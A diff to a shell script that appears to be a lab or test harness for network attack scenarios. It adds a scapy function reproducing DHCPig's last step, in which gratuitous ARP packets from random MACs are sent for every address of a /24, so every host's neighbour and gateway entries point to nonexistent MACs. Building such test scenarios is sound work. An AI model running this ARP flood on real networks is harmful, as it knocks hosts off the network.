@@ -2133,6 +2133,21 @@ for i in range(150, 210):
 sendp(ps, iface="eth0", inter=0.05)'
 	sleep 25 # no forged client shows a stack afterwards
 }
+# DHCPig -g's last step alone: a gratuitous ARP request (sender and target
+# the same address) for every address of the /24, each from its own random
+# MAC in the 00:0c:29 block, back to back: every host's entry for every
+# neighbour, the gateway's included, bound to a MAC nobody has.
+scn_dhcpig_garp_scapy() {
+	local i; for i in $(seq 100 129); do spawn "h$i" ping -q -c 2 -i 0.5 "$NET.1"; done # the quiet hosts bound too
+	sleep 2
+	scapy evil 'ps = []
+for i in range(0, 256):
+    m = "00:0c:29:%02x:%02x:%02x" % (random.randint(0, 0x7f), random.randint(0, 255), random.randint(0, 255))
+    a = "'$NET'.%d" % i
+    ps.append(Ether(src=m, dst="ff:ff:ff:ff:ff:ff")/ARP(hwsrc=m, psrc=a, hwdst="00:00:00:00:00:00", pdst=a))
+sendp(ps, iface="eth0")'
+	sleep 2
+}
 all=$(declare -F | awk '{print $3}' | grep '^scn_' | sed 's/^scn_//')
 for s in ${@:-$all}; do
 	record "$s" "scn_$s"
